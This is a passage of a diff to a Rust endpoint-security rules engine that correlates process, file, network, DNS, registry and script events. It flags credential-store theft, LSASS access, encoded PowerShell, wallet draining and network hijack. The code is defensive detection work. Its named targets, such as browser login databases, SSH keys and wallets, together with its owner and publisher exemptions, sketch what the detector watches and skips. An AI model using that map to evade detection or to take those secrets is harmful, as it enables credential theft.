@@ -1,23 +1,89 @@
+use super::feed_rules::{self, FeedRules, ProcessContext};
+use super::policy;
 use super::protected_paths;
-use crate::config::{AllowlistConfig, Config};
-use crate::types::{Event, Evidence, Finding, Incident, Severity};
-use std::collections::{HashMap, VecDeque};
+use super::ransomware;
+use super::rules;
+use super::self_exclusion::{self, SelfExclusion};
+use super::state::EngineState;
+use super::trace::{self, TraceRecord, TraceStep};
+use crate::baseline::Observation;
+use crate::browser_extensions;
+use crate::browser_profiles;
+use crate::config::{AllowlistConfig, Config, Mode};
+use crate::credential_dump;
+use crate::crypto_address;
+use crate::domains;
+use crate::net::{self, Cidr};
+use crate::network_hijack::{self, HijackSetting};
+use crate::powershell;
+use crate::threat_feed::schema::{ReputationLists, RuleOverride, ThreatFeedBundle};
+use crate::types::{
+  DownloadOrigin, Event, Evidence, FileAccessType, Finding, Incident, Severity, UNKNOWN_PID,
+};
+use crate::wallet_drain;
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeSet, HashMap, HashSet, VecDeque};
+use std::net::IpAddr;
+use std::path::Path;
+use std::time::SystemTime;
 
-#[derive(Debug, Clone)]
-struct ProcessInfo {
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub(super) struct ProcessInfo {
   image_path: String,
   signer_publisher: Option<String>,
+  download_origin: Option<DownloadOrigin>,
+  ppid: u32,
+  started_unix_ms: u64,
+  /// Sysmon `ProcessGuid` and `ParentProcessGuid`, when the start came from Sysmon.
+  #[serde(default)]
+  guid: Option<String>,
+  #[serde(default)]
+  parent_guid: Option<String>,
+  /// Set by a ProcessTerminate event. Kept for a correlation window after that, for the accesses
+  /// it made and as a tree ancestor.
+  #[serde(default)]
+  exited_unix_ms: Option<u64>,
+  /// Time of the latest event from the process, for forgetting processes that went quiet without
+  /// an exit event.
+  #[serde(default)]
+  last_seen_unix_ms: u64,
 }
 
-#[derive(Debug, Clone)]
-struct SensitiveAccess {
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub(super) struct SensitiveAccess {
+  pid: u32,
+  image_path: String,
   timestamp_unix_ms: u64,
   file_path: String,
   access: crate::types::FileAccessType,
   target: ProtectedTarget,
 }
 
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+/// The last clipboard content seen, for R024.
+#[derive(Debug, Clone)]
+struct ClipboardContent {
+  pid: u32,
+  address: Option<String>,
+  timestamp_unix_ms: u64,
+}
+
+/// PowerShell flagged by R027-R029, kept for R030 until the correlation window passes.
+#[derive(Debug, Clone)]
+struct FlaggedScript {
+  rule_ids: Vec<String>,
+  evidence: Evidence,
+  timestamp_unix_ms: u64,
+}
+
+#[derive(Debug, Clone)]
+struct CachedHash {
+  modified: Option<SystemTime>,
+  len: u64,
+  sha256: Option<String>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
 pub(crate) enum ProtectedTarget {
   ChromeLoginData,
   ChromeCookies,
@@ -25,12 +91,53 @@ pub(crate) enum ProtectedTarget {
   FirefoxLoginsJson,
   FirefoxKey4Db,
   FirefoxCookiesSqlite,
+  SshKey,
+  CryptoWallet,
+  CredentialVault,
+  CloudCliToken,
+  VpnConfig,
+}
+
+impl ProtectedTarget {
+  pub(crate) fn label(self) -> &'static str {
+    match self {
+      ProtectedTarget::ChromeLoginData => "chromium_login_data",
+      ProtectedTarget::ChromeCookies => "chromium_cookies",
+      ProtectedTarget::ChromeLocalState => "chromium_local_state",
+      ProtectedTarget::FirefoxLoginsJson => "firefox_logins_json",
+      ProtectedTarget::FirefoxKey4Db => "firefox_key4_db",
+      ProtectedTarget::FirefoxCookiesSqlite => "firefox_cookies_sqlite",
+      ProtectedTarget::SshKey => "ssh_key",
+      ProtectedTarget::CryptoWallet => "crypto_wallet",
+      ProtectedTarget::CredentialVault => "credential_vault",
+      ProtectedTarget::CloudCliToken => "cloud_cli_token",
+      ProtectedTarget::VpnConfig => "vpn_config",
+    }
+  }
 }
 
 pub struct Engine {
   procs: HashMap<u32, ProcessInfo>,
   sensitive: HashMap<u32, VecDeque<SensitiveAccess>>,
   enum_hits: HashMap<u32, VecDeque<u64>>,
+  self_exclusion: SelfExclusion,
+  hash_cache: HashMap<String, CachedHash>,
+  observations: Vec<Observation>,
+  settings: network_hijack::Snapshot,
+  reputation: ReputationLists,
+  rule_overrides: Vec<RuleOverride>,
+  trace_pids: HashSet<u32>,
+  trace_log: Vec<TraceRecord>,
+  clipboard: Option<ClipboardContent>,
+  ransomware: ransomware::Tracker,
+  scripts: HashMap<u32, FlaggedScript>,
+  feed_rules: FeedRules,
+  /// Last ProcessGuid seen per PID, also for processes whose start wasn't seen.
+  guids: HashMap<u32, String>,
+  /// Processes whose PID now belongs to a later process, kept as ancestors of children that may
+  /// still be running.
+  retired: HashMap<u32, ProcessInfo>,
+  next_sweep_unix_ms: u64,
 }
 
 impl Default for Engine {
@@ -41,184 +148,557 @@ impl Default for Engine {
 
 impl Engine {
   pub fn new() -> Self {
+    Self {
+      settings: network_hijack::Snapshot::capture(),
+      ..Self::with_self_exclusion(SelfExclusion::discover())
+    }
+  }
+
+  pub fn with_self_exclusion(self_exclusion: SelfExclusion) -> Self {
     Self {
       procs: HashMap::new(),
       sensitive: HashMap::new(),
       enum_hits: HashMap::new(),
+      self_exclusion,
+      hash_cache: HashMap::new(),
+      observations: Vec::new(),
+      settings: network_hijack::Snapshot::default(),
+      reputation: ReputationLists::default(),
+      rule_overrides: Vec::new(),
+      trace_pids: HashSet::new(),
+      trace_log: Vec::new(),
+      clipboard: None,
+      ransomware: ransomware::Tracker::default(),
+      scripts: HashMap::new(),
+      feed_rules: FeedRules::default(),
+      guids: HashMap::new(),
+      retired: HashMap::new(),
+      next_sweep_unix_ms: 0,
     }
   }
 
+  /// Reputation lists, rule overrides and detections from a verified threat feed bundle (or none).
+  pub fn set_threat_feed(&mut self, bundle: Option<ThreatFeedBundle>) {
+    match bundle {
+      Some(b) => {
+        self.reputation = b.reputation;
+        self.rule_overrides = b.rules;
+        self.feed_rules.set(b.detections);
+      }
+      None => {
+        self.reputation = ReputationLists::default();
+        self.rule_overrides = Vec::new();
+        self.feed_rules.set(Vec::new());
+      }
+    }
+  }
+
+  /// Threat-feed lists used by domain rules (R016/R017); empty until a verified bundle is loaded.
+  pub fn set_reputation(&mut self, reputation: ReputationLists) {
+    self.reputation = reputation;
+  }
+
   pub fn process(&mut self, cfg: &Config, events: &[Event]) -> anyhow::Result<Vec<Incident>> {
+    let cfg = cfg.for_machine();
+    let cfg = cfg.as_ref();
     let mut incidents = Vec::new();
 
+    let mut traced = Vec::new();
+
     for ev in events {
-      match ev {
-        Event::ProcessStart {
-          pid,
-          image_path,
-          signer_publisher,
-          ppid,
-          timestamp_unix_ms,
-        } => {
-          self.procs.insert(
-            *pid,
-            ProcessInfo {
-              image_path: image_path.clone(),
-              signer_publisher: signer_publisher.clone(),
-            },
-          );
+      let before = incidents.len();
+      self.process_event(cfg, ev, &mut incidents);
+      if !self.feed_rules.is_empty() {
+        incidents.extend(self.feed_rule_incidents(cfg, ev));
+      }
+      let (pid, ts) = pid_and_timestamp(ev);
+      if self.trace_pids.contains(&pid) {
+        for incident in &incidents[before..] {
+          traced.push((incident.incident_id.clone(), pid, ts));
+          self.trace(pid, ts, ev, || TraceStep::Candidate {
+            incident_id: incident.incident_id.clone(),
+            rule_ids: rule_ids(incident),
+            severity: incident.severity,
+          });
+        }
+      }
+    }
 
-          // Placeholder: no detection rules yet on process start.
-          let _ = (ppid, timestamp_unix_ms);
+    if let Some(now) = events.iter().map(Event::timestamp_unix_ms).max() {
+      self.sweep(cfg, now);
+    }
+
+    let incidents = policy::apply(cfg, &self.rule_overrides, incidents);
+    for (incident_id, pid, ts) in traced {
+      let kept = incidents.iter().find(|i| i.incident_id == incident_id);
+      self.trace_log.push(TraceRecord {
+        pid,
+        timestamp_unix_ms: ts,
+        event: None,
+        step: TraceStep::PolicyApplied {
+          incident_id,
+          kept: kept.is_some(),
+          severity: kept.map(|i| i.severity),
+          rule_ids: kept.map(rule_ids).unwrap_or_default(),
+        },
+      });
+    }
+    Ok(incidents)
+  }
+
+  fn process_event(&mut self, cfg: &Config, ev: &Event, incidents: &mut Vec<Incident>) {
+    let (pid, ts) = pid_and_timestamp(ev);
+    if let Some(guid) = event_guid(ev) {
+      if !self.check_guid(pid, guid, matches!(ev, Event::ProcessExit { .. })) {
+        return;
+      }
+    }
+    if let Some(info) = self.procs.get_mut(&pid) {
+      info.last_seen_unix_ms = info.last_seen_unix_ms.max(ts);
+    }
+    match ev {
+      Event::ProcessStart {
+        pid,
+        image_path,
+        signer_publisher,
+        command_line,
+        download_origin,
+        process_guid,
+        parent_process_guid,
+        ppid,
+        timestamp_unix_ms,
+      } => {
+        // A start for a PID we already know means the earlier process is gone (we may have missed
+        // its exit); what it did must not be attributed to the new one.
+        if self.procs.contains_key(pid) {
+          self.retire(*pid);
         }
-        Event::FileAccess {
-          pid,
-          image_path,
-          file_path,
-          access,
-          timestamp_unix_ms,
-        } => {
-          self.prune_old(*pid, *timestamp_unix_ms, cfg.correlation_window_seconds);
-          self.prune_enum_old(*pid, *timestamp_unix_ms);
-
-          if is_path_allowlisted(&cfg.allowlist, file_path) {
-            continue;
-          }
+        self.procs.insert(
+          *pid,
+          ProcessInfo {
+            image_path: image_path.clone(),
+            signer_publisher: signer_publisher.clone(),
+            download_origin: download_origin.clone(),
+            ppid: *ppid,
+            started_unix_ms: *timestamp_unix_ms,
+            guid: process_guid.clone(),
+            parent_guid: parent_process_guid.clone(),
+            exited_unix_ms: None,
+            last_seen_unix_ms: *timestamp_unix_ms,
+          },
+        );
+        self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::ProcessStarted {
+          image_path: image_path.clone(),
+          ppid: *ppid,
+          signer_publisher: signer_publisher.clone(),
+        });
 
-          let proc = self.proc_info(*pid, image_path);
-          let target = match protected_paths::classify_protected_target(cfg, file_path) {
-            Some(t) => t,
-            None => continue,
-          };
+        let Some(command_line) = command_line.as_deref() else {
+          return;
+        };
+        if let Some(pattern) =
+          wallet_drain::match_command_line(command_line, &self.reputation.wallet_drain_patterns)
+            .cloned()
+        {
+          if !self.excluded(cfg, *pid, *timestamp_unix_ms, ev, image_path) {
+            incidents.push(Incident::new(vec![rules::wallet_drain_command_finding(
+              *pid,
+              image_path,
+              command_line,
+              &pattern,
+              *timestamp_unix_ms,
+            )]));
+          }
+        }
+        if powershell::is_powershell_image(image_path) {
+          if let Some(m) = powershell::encoded_command(command_line) {
+            let evidence = Evidence::CommandLine {
+              pid: *pid,
+              image_path: image_path.clone(),
+              command_line: command_line.to_string(),
+            };
+            incidents.extend(self.powershell_incident(
+              cfg,
+              *pid,
+              &[m],
+              |_| evidence.clone(),
+              *timestamp_unix_ms,
+              ev,
+            ));
+          }
+          return;
+        }
+        if !browser_extensions::is_chromium_image(image_path) {
+          return;
+        }
+        let extension_paths = browser_extensions::load_extension_paths(command_line);
+        if extension_paths.is_empty() {
+          return;
+        }
 
-          // Record for correlation regardless of whether we emit a finding.
-          self
-            .sensitive
-            .entry(*pid)
-            .or_default()
-            .push_back(SensitiveAccess {
-              timestamp_unix_ms: *timestamp_unix_ms,
-              file_path: file_path.clone(),
-              access: *access,
-              target,
-            });
+        incidents.push(Incident::new(vec![rules::load_extension_finding(
+          *pid,
+          image_path,
+          command_line,
+          &extension_paths,
+          *timestamp_unix_ms,
+        )]));
+      }
+      Event::ProcessExit {
+        pid,
+        image_path,
+        timestamp_unix_ms,
+        ..
+      } => {
+        if *pid == UNKNOWN_PID {
+          return;
+        }
+        let info = self.procs.entry(*pid).or_insert_with(|| ProcessInfo {
+          image_path: image_path
+            .clone()
+            .unwrap_or_else(|| "<unknown>".to_string()),
+          signer_publisher: None,
+          download_origin: None,
+          ppid: 0,
+          started_unix_ms: 0,
+          guid: None,
+          parent_guid: None,
+          exited_unix_ms: None,
+          last_seen_unix_ms: *timestamp_unix_ms,
+        });
+        // The exit of an earlier process with this PID, reported late, says nothing about this one.
+        // (With ProcessGuids, `check_guid` has already told them apart.)
+        if image_path
+          .as_deref()
+          .is_none_or(|i| i.eq_ignore_ascii_case(&info.image_path))
+        {
+          info.exited_unix_ms = Some(*timestamp_unix_ms);
+        }
+      }
+      Event::FileAccess {
+        pid,
+        image_path,
+        file_path,
+        access,
+        timestamp_unix_ms,
+        ..
+      } => {
+        self.prune_old(cfg, *pid, *timestamp_unix_ms, ev);
+        self.prune_enum_old(*pid, *timestamp_unix_ms);
 
-          if is_browser_self_access(&proc.image_path, target) {
-            continue;
+        if network_hijack::is_hosts_file(file_path) {
+          let after = network_hijack::read_hosts_entries(file_path);
+          let before = self.settings.replace_hosts(after.clone());
+          if before.is_some() && before == after {
+            return;
           }
+          let join = |e: Option<Vec<String>>| e.map(|e| e.join("; "));
+          incidents.extend(self.hijack_incident(
+            cfg,
+            *pid,
+            image_path,
+            HijackSetting::HostsFile,
+            file_path,
+            join(before),
+            join(after),
+            *timestamp_unix_ms,
+          ));
+          return;
+        }
 
-          let allowlisted = publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref());
+        if is_path_allowlisted(&cfg.allowlist, file_path) {
+          self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::Ignored {
+            reason: format!("{file_path} is under an allowlisted path"),
+          });
+          return;
+        }
 
-          let mut findings = Vec::new();
+        let proc = self.proc_info(*pid, image_path);
+        if self.excluded(cfg, *pid, *timestamp_unix_ms, ev, &proc.image_path) {
+          return;
+        }
 
-          if !allowlisted {
-            findings.extend(crate::rules_engine::rules::file_access_rule_findings(
-              cfg,
+        if !publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref()) {
+          if let Some(burst) = self.ransomware.observe(
+            &cfg.ransomware,
+            *pid,
+            file_path,
+            *access,
+            *timestamp_unix_ms,
+          ) {
+            incidents.push(Incident::new(vec![rules::ransomware_finding(
               *pid,
               &proc.image_path,
               file_path,
               *access,
+              &burst,
+              cfg.ransomware.window_seconds,
               *timestamp_unix_ms,
-              target,
-            ));
+            )]));
           }
+        }
 
-          if proc
-            .signer_publisher
-            .as_deref()
-            .map(|s| s.trim().is_empty())
-            .unwrap_or(true)
-            && !allowlisted
-          {
+        if let Some(finding) = self.wallet_drain_script(
+          *pid,
+          &proc.image_path,
+          file_path,
+          *access,
+          *timestamp_unix_ms,
+        ) {
+          incidents.push(Incident::new(vec![finding]));
+          return;
+        }
+
+        let target = match protected_paths::classify_protected_target(cfg, file_path) {
+          Some(t) => t,
+          None => return,
+        };
+        // Credential store rules are about who touched the store; a change with no process
+        // behind it can't be told apart from the owner's own writes.
+        if *pid == UNKNOWN_PID && image_path.is_none() {
+          self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::Ignored {
+            reason: format!(
+              "{} changed, but the source does not report which process changed it",
+              target.label()
+            ),
+          });
+          return;
+        }
+
+        // Record for correlation regardless of whether we emit a finding.
+        self
+          .sensitive
+          .entry(*pid)
+          .or_default()
+          .push_back(SensitiveAccess {
+            pid: *pid,
+            image_path: proc.image_path.clone(),
+            timestamp_unix_ms: *timestamp_unix_ms,
+            file_path: file_path.clone(),
+            access: *access,
+            target,
+          });
+        let queued = self.sensitive.get(pid).map_or(0, VecDeque::len);
+        self.trace(*pid, *timestamp_unix_ms, ev, || {
+          TraceStep::SensitiveQueued {
+            file_path: file_path.clone(),
+            target: target.label().to_string(),
+            queued,
+          }
+        });
+
+        if is_owner_access(&proc.image_path, target) {
+          self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::Ignored {
+            reason: "the owning application (browser, SSH client, wallet...) reading its own store"
+              .to_string(),
+          });
+          return;
+        }
+
+        let allowlisted = publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref());
+        self.trace(*pid, *timestamp_unix_ms, ev, || {
+          TraceStep::AllowlistChecked {
+            check: "publisher".to_string(),
+            value: proc.signer_publisher.clone(),
+            matched: allowlisted,
+          }
+        });
+
+        if cfg.mode == Mode::Learning && cfg.baseline.enabled && !allowlisted {
+          self.observations.push(Observation {
+            publisher: proc.signer_publisher.clone(),
+            image_path: proc.image_path.clone(),
+            target: target.label().to_string(),
+            timestamp_unix_ms: *timestamp_unix_ms,
+          });
+        }
+
+        let mut findings = Vec::new();
+
+        if !allowlisted {
+          findings.extend(rules::file_access_rule_findings(
+            cfg,
+            *pid,
+            &proc.image_path,
+            file_path,
+            *access,
+            *timestamp_unix_ms,
+            target,
+          ));
+        }
+
+        if proc
+          .signer_publisher
+          .as_deref()
+          .map(|s| s.trim().is_empty())
+          .unwrap_or(true)
+          && !allowlisted
+        {
+          findings.push(Finding {
+            rule_id: "R008".to_string(),
+            severity: Severity::Yellow,
+            description: "Unknown/unsigned publisher touched protected browser target".to_string(),
+            evidence: vec![Evidence::Note {
+              message: "signer_publisher missing".to_string(),
+            }],
+            timestamp_unix_ms: *timestamp_unix_ms,
+          });
+        }
+
+        if protected_paths::is_under_protected_root(file_path) && !allowlisted {
+          self
+            .enum_hits
+            .entry(*pid)
+            .or_default()
+            .push_back(*timestamp_unix_ms);
+
+          if self.is_enumerating(*pid) {
             findings.push(Finding {
-              rule_id: "R008".to_string(),
+              rule_id: "R007".to_string(),
               severity: Severity::Yellow,
-              description: "Unknown/unsigned publisher touched protected browser target"
-                .to_string(),
-              evidence: vec![Evidence::Note {
-                message: "signer_publisher missing".to_string(),
+              description: "High-rate enumeration under browser profile directories".to_string(),
+              evidence: vec![Evidence::File {
+                pid: *pid,
+                image_path: Some(proc.image_path.clone()),
+                file_path: file_path.to_string(),
+                access: *access,
               }],
               timestamp_unix_ms: *timestamp_unix_ms,
             });
           }
+        }
 
-          if protected_paths::is_under_protected_root(file_path) && !allowlisted {
-            self
-              .enum_hits
-              .entry(*pid)
-              .or_default()
-              .push_back(*timestamp_unix_ms);
-
-            if self.is_enumerating(*pid) {
-              findings.push(Finding {
-                rule_id: "R007".to_string(),
-                severity: Severity::Yellow,
-                description: "High-rate enumeration under browser profile directories".to_string(),
-                evidence: vec![Evidence::File {
-                  pid: *pid,
-                  image_path: Some(proc.image_path.clone()),
-                  file_path: file_path.to_string(),
-                  access: *access,
-                }],
-                timestamp_unix_ms: *timestamp_unix_ms,
-              });
-            }
-          }
+        if !findings.is_empty() {
+          incidents.push(Incident::new(findings));
+        }
+      }
+      Event::NetConnect {
+        pid,
+        image_path,
+        dest_ip,
+        dest_port,
+        dest_host,
+        protocol,
+        timestamp_unix_ms,
+        ..
+      } => {
+        self.prune_old(cfg, *pid, *timestamp_unix_ms, ev);
+        let proc = self.proc_info(*pid, image_path);
+        if self.excluded(cfg, *pid, *timestamp_unix_ms, ev, &proc.image_path) {
+          return;
+        }
 
-          if !findings.is_empty() {
-            incidents.push(Incident::new(findings));
-          }
+        let network = Evidence::Network {
+          pid: *pid,
+          image_path: Some(proc.image_path.clone()),
+          dest_ip: *dest_ip,
+          dest_port: *dest_port,
+          dest_host: dest_host.clone(),
+          protocol: protocol.clone(),
+        };
+        if let Some(finding) =
+          self.script_connect_finding(cfg, *pid, dest_ip, network, *timestamp_unix_ms)
+        {
+          incidents.push(Incident::new(vec![finding]));
         }
-        Event::NetConnect {
-          pid,
-          image_path,
-          dest_ip,
-          dest_port,
-          dest_host,
-          protocol,
-          timestamp_unix_ms,
-        } => {
-          self.prune_old(*pid, *timestamp_unix_ms, cfg.correlation_window_seconds);
-          let proc = self.proc_info(*pid, image_path);
-
-          let Some(access) = self.sensitive.get(pid).and_then(|q| q.back()).cloned() else {
-            continue;
-          };
-
-          if is_browser_self_access(&proc.image_path, access.target) {
-            continue;
+
+        let held = self.sensitive_in_tree(*pid);
+        let Some(latest) = held.iter().max_by_key(|a| a.timestamp_unix_ms).cloned() else {
+          let tree_root = self.tree_root(*pid);
+          self.trace(*pid, *timestamp_unix_ms, ev, || {
+            TraceStep::NoSensitiveAccess { tree_root }
+          });
+          return;
+        };
+        let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+        let matches =
+          correlated_accesses(held, Some(&proc.image_path), *timestamp_unix_ms, window_ms);
+
+        let Some(access) = matches.first().cloned() else {
+          // Nothing to correlate; say why for the most recent access.
+          if is_owner_access(&proc.image_path, latest.target)
+            || is_owner_access(&latest.image_path, latest.target)
+          {
+            self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::Ignored {
+              reason: "the access or the connection came from a browser".to_string(),
+            });
+          } else {
+            self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::WindowCompared {
+              access_pid: latest.pid,
+              file_path: latest.file_path.clone(),
+              delta_ms: timestamp_unix_ms.saturating_sub(latest.timestamp_unix_ms),
+              window_ms,
+            });
           }
+          return;
+        };
 
-          let allowlisted = publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref());
-          let suspicious = !allowlisted || !is_known_browser_image(&proc.image_path);
-          if !suspicious {
-            continue;
+        let dest_allowed = destination_allowlisted(&cfg.allowlist, dest_ip);
+        self.trace(*pid, *timestamp_unix_ms, ev, || {
+          TraceStep::AllowlistChecked {
+            check: "destination".to_string(),
+            value: Some(dest_ip.to_string()),
+            matched: dest_allowed,
           }
+        });
+        if dest_allowed {
+          return;
+        }
 
-          let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
-          let delta_ms = timestamp_unix_ms.saturating_sub(access.timestamp_unix_ms);
-          if delta_ms > window_ms {
-            continue;
+        let allowlisted = publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref());
+        let suspicious = !allowlisted || !is_known_browser_image(&proc.image_path);
+        self.trace(*pid, *timestamp_unix_ms, ev, || {
+          TraceStep::AllowlistChecked {
+            check: "publisher".to_string(),
+            value: proc.signer_publisher.clone(),
+            matched: allowlisted,
           }
+        });
+        if !suspicious {
+          return;
+        }
 
-          let delta_seconds = delta_ms / 1000;
-          let mut findings = Vec::new();
-          findings.push(Finding {
-            rule_id: "R009".to_string(),
-            severity: Severity::Red,
-            description: "Sensitive browser data access followed by outbound network connection"
-              .to_string(),
-            evidence: vec![
-              Evidence::File {
-                pid: *pid,
-                image_path: Some(proc.image_path.clone()),
-                file_path: access.file_path.clone(),
-                access: access.access,
-              },
+        let delta_ms = timestamp_unix_ms.saturating_sub(access.timestamp_unix_ms);
+        self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::WindowCompared {
+          access_pid: access.pid,
+          file_path: access.file_path.clone(),
+          delta_ms,
+          window_ms,
+        });
+
+        let delta_seconds = delta_ms / 1000;
+        let mut evidence = vec![Evidence::File {
+          pid: access.pid,
+          image_path: Some(access.image_path.clone()),
+          file_path: access.file_path.clone(),
+          access: access.access,
+        }];
+        if access.pid != *pid {
+          // Read in one process, sent from another in the same tree.
+          evidence.extend(self.process_evidence(access.pid));
+          evidence.extend(self.process_evidence(*pid));
+          evidence.push(Evidence::Note {
+            message: format!(
+              "process tree correlation: access pid={} connect pid={} tree root pid={}",
+              access.pid,
+              pid,
+              self.tree_root(*pid)
+            ),
+          });
+        }
+        let mut findings = Vec::new();
+        findings.push(Finding {
+          rule_id: "R009".to_string(),
+          severity: Severity::Red,
+          description: "Sensitive browser data access followed by outbound network connection"
+            .to_string(),
+          evidence: [
+            evidence,
+            vec![
               Evidence::Network {
                 pid: *pid,
                 image_path: Some(proc.image_path.clone()),
-                dest_ip: dest_ip.clone(),
+                dest_ip: *dest_ip,
                 dest_port: *dest_port,
                 dest_host: dest_host.clone(),
                 protocol: protocol.clone(),
@@ -227,59 +707,628 @@ impl Engine {
                 pid: *pid,
                 window_seconds: cfg.correlation_window_seconds,
                 sensitive_file: access.file_path.clone(),
-                dest_ip: dest_ip.clone(),
+                dest_ip: *dest_ip,
                 dest_host: dest_host.clone(),
                 delta_seconds,
               },
+              matches_note(&matches),
             ],
+          ]
+          .concat(),
+          timestamp_unix_ms: *timestamp_unix_ms,
+        });
+
+        if dest_host
+          .as_deref()
+          .map(|h| h.trim().is_empty())
+          .unwrap_or(true)
+        {
+          findings.push(Finding {
+            rule_id: "R010".to_string(),
+            severity: Severity::Red,
+            description: "Outbound connection after sensitive access to direct IP / unknown host"
+              .to_string(),
+            evidence: vec![Evidence::Note {
+              message: "dest_host missing/empty".to_string(),
+            }],
             timestamp_unix_ms: *timestamp_unix_ms,
           });
+        }
 
-          if dest_host
-            .as_deref()
-            .map(|h| h.trim().is_empty())
-            .unwrap_or(true)
-          {
-            findings.push(Finding {
-              rule_id: "R010".to_string(),
-              severity: Severity::Red,
-              description: "Outbound connection after sensitive access to direct IP / unknown host"
-                .to_string(),
-              evidence: vec![Evidence::Note {
-                message: "dest_host missing/empty".to_string(),
-              }],
-              timestamp_unix_ms: *timestamp_unix_ms,
-            });
+        incidents.push(Incident::new(findings));
+      }
+      Event::DnsQuery {
+        pid,
+        image_path,
+        query_name,
+        query_results,
+        timestamp_unix_ms,
+      } => {
+        let Some(domain) = domains::normalize(query_name) else {
+          return;
+        };
+        let proc = self.proc_info(*pid, image_path);
+        if self.excluded(cfg, *pid, *timestamp_unix_ms, ev, &proc.image_path) {
+          return;
+        }
+
+        if let Some(entry) = domains::blocklist_match(&domain, &self.reputation.domains_block) {
+          incidents.push(Incident::new(vec![rules::blocked_domain_finding(
+            *pid,
+            &proc.image_path,
+            &domain,
+            query_results.as_deref(),
+            entry,
+            *timestamp_unix_ms,
+          )]));
+          return;
+        }
+
+        // Browsers resolve random-looking CDN names all day; R017 is only about non-browser
+        // processes that just touched browser secrets.
+        if is_known_browser_image(&proc.image_path)
+          || publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref())
+        {
+          return;
+        }
+        let reason = if let Some(entry) =
+          domains::blocklist_match(&domain, &self.reputation.domains_newly_registered)
+        {
+          format!("newly registered domain (feed entry {entry})")
+        } else if domains::looks_generated(&domain) {
+          "DGA-like domain name".to_string()
+        } else {
+          return;
+        };
+
+        let held = self.sensitive_in_tree(*pid);
+        let Some(latest) = held.iter().max_by_key(|a| a.timestamp_unix_ms).cloned() else {
+          let tree_root = self.tree_root(*pid);
+          self.trace(*pid, *timestamp_unix_ms, ev, || {
+            TraceStep::NoSensitiveAccess { tree_root }
+          });
+          return;
+        };
+        let window_ms = cfg.correlation_window_seconds.saturating_mul(1000);
+        let matches = correlated_accesses(held, None, *timestamp_unix_ms, window_ms);
+        let access = matches.first().unwrap_or(&latest);
+        let delta_ms = timestamp_unix_ms.saturating_sub(access.timestamp_unix_ms);
+        self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::WindowCompared {
+          access_pid: access.pid,
+          file_path: access.file_path.clone(),
+          delta_ms,
+          window_ms,
+        });
+        if matches.is_empty() {
+          return;
+        }
+
+        incidents.push(Incident::new(vec![Finding {
+          rule_id: rules::R017.id.to_string(),
+          severity: rules::R017.default_severity,
+          description: format!("Lookup of {reason} {domain} after sensitive browser data access"),
+          evidence: vec![
+            Evidence::File {
+              pid: access.pid,
+              image_path: Some(access.image_path.clone()),
+              file_path: access.file_path.clone(),
+              access: access.access,
+            },
+            Evidence::Dns {
+              pid: *pid,
+              image_path: Some(proc.image_path.clone()),
+              query_name: domain.clone(),
+              query_results: query_results.clone(),
+            },
+            Evidence::Note {
+              message: format!("{reason}; {}s after access", delta_ms / 1000),
+            },
+            matches_note(&matches),
+          ],
+          timestamp_unix_ms: *timestamp_unix_ms,
+        }]));
+      }
+      Event::RegistrySet {
+        pid,
+        image_path,
+        key_path,
+        value,
+        timestamp_unix_ms,
+      } => {
+        if let Some(setting) = network_hijack::classify_registry_key(key_path) {
+          let after = value.as_deref().map(network_hijack::normalize_value);
+          let before = self.settings.replace_registry(key_path, value.as_deref());
+          if before.is_some() && before == after {
+            return;
           }
+          incidents.extend(self.hijack_incident(
+            cfg,
+            *pid,
+            image_path,
+            setting,
+            key_path,
+            before,
+            after,
+            *timestamp_unix_ms,
+          ));
+          return;
+        }
 
-          incidents.push(Incident::new(findings));
+        if !browser_extensions::is_forcelist_key(key_path) {
+          return;
+        }
+
+        let proc = self.proc_info(*pid, image_path);
+        if self.self_exclusion.is_self(&proc.image_path)
+          || self.hash_allowlisted(&cfg.allowlist, &proc.image_path)
+          || publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref())
+        {
+          return;
         }
+
+        incidents.push(Incident::new(vec![rules::forcelist_finding(
+          *pid,
+          &proc.image_path,
+          key_path,
+          value.as_deref(),
+          *timestamp_unix_ms,
+        )]));
+      }
+      Event::ProcessAccess {
+        pid,
+        image_path,
+        target_pid,
+        target_image,
+        granted_access,
+        timestamp_unix_ms,
+      } => {
+        if !credential_dump::is_lsass(target_image) {
+          return;
+        }
+        let rights = credential_dump::suspicious_rights(*granted_access);
+        if rights.is_empty() {
+          return;
+        }
+        let proc = self.proc_info(*pid, image_path);
+        if credential_dump::is_system_accessor(&proc.image_path) {
+          self.trace(*pid, *timestamp_unix_ms, ev, || TraceStep::Ignored {
+            reason: "Windows component that opens LSASS routinely".to_string(),
+          });
+          return;
+        }
+        if self.excluded(cfg, *pid, *timestamp_unix_ms, ev, &proc.image_path)
+          || publisher_allowlisted(&cfg.allowlist, proc.signer_publisher.as_deref())
+        {
+          return;
+        }
+
+        incidents.push(Incident::new(vec![rules::lsass_access_finding(
+          *pid,
+          &proc.image_path,
+          *target_pid,
+          target_image,
+          *granted_access,
+          &rights,
+          self.lineage_evidence(*pid),
+          *timestamp_unix_ms,
+        )]));
+      }
+      Event::ScriptBlock {
+        pid,
+        script_block_id,
+        text,
+        path,
+        timestamp_unix_ms,
+        ..
+      } => {
+        let matches = powershell::scan_script(text);
+        if matches.is_empty() {
+          return;
+        }
+        if let Some(p) = path
+          .as_deref()
+          .filter(|p| is_path_allowlisted(&cfg.allowlist, p))
+        {
